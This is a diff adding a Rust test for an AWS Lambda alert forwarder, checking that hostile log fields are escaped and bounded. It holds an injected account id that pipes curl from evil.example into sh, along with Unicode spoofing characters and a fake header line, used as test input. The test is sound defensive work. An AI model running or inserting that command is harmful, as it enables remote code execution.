@@ -326,3 +326,62 @@ async fn a_format_that_does_not_match_is_said() {
     assert_eq!(got, verdict(&[], 2, 0));
     assert!(sent.is_empty());
 }
+
+/// What an alert shows is inert and bounded, through the Lambda handler: a hostile account id
+/// never reaches the command, characters that fake structure are escaped, the subject keeps its
+/// count under the longest label, and a 300 KB log group still gives a publishable message.
+#[tokio::test]
+async fn what_an_alert_shows_is_inert_and_bounded() {
+    let format = r#"$context.requestId $context.accountId "$context.identity.userAgent" $context.authorizer.error"#;
+    let line = format!(
+        "r1 123;curl${{IFS}}evil.example|sh;# \"ua\" {PERMISSION}\u{2028}Subject: fake\u{202e}\u{200b}\u{feff}"
+    );
+    let config = Config {
+        topic: Some("arn:aws:sns:eu-west-1:123456789012:alerts".parse().unwrap()),
+        format: LogFormat::parse(format).unwrap(),
+        label: Some("L".repeat(40)),
+        region: Some("eu-west-1".into()),
+        ..Config::default()
+    };
+    let log_group = format!("/aws/{}", "g".repeat(300_000));
+    let event = forwarder::decode::encode_event(&line, &log_group, "$default", "evil;owner", 0);
+    let publisher = MemoryPublisher::new();
+    let out = handle_event(
+        &serde_json::to_vec(&event).unwrap(),
+        &config,
+        &Services::new(&publisher),
+    )
+    .await
+    .unwrap();
+    assert_eq!(out.findings, 1);
+    let sent = publisher.sent();
+    let alert = &sent[0];
+    assert!(alert.subject.len() < 100, "{}", alert.subject);
+    assert!(alert.subject.ends_with("(1x)"), "{}", alert.subject);
+    assert!(alert.subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
+    assert!(
+        alert.publish_bytes() < forwarder::alert::MAX_MESSAGE_BYTES,
+        "{}",
+        alert.publish_bytes()
+    );
+    let message: Value = serde_json::from_str(&alert.message()).unwrap();
+    for (name, body) in [
+        ("email", &alert.email),
+        ("chat", &alert.chat),
+        ("message", &message.to_string()),
+    ] {
+        assert!(!body.contains("curl"), "the account id reached the {name}");
+        for c in ['\u{2028}', '\u{202e}', '\u{200b}', '\u{feff}'] {
+            assert!(!body.contains(c), "{c:?} raw in the {name}");
+        }
+    }
+    let machine: Value = serde_json::from_str(&alert.machine).unwrap();
+    assert_eq!(machine["account_id"], Value::Null);
+    assert!(
+        alert.email.contains(
+            "--source-arn arn:aws:execute-api:eu-west-1:ACCOUNT_ID:API_ID/authorizers/AUTHORIZER_ID"
+        ),
+        "the command lacks the placeholder"
+    );
+    assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
+}
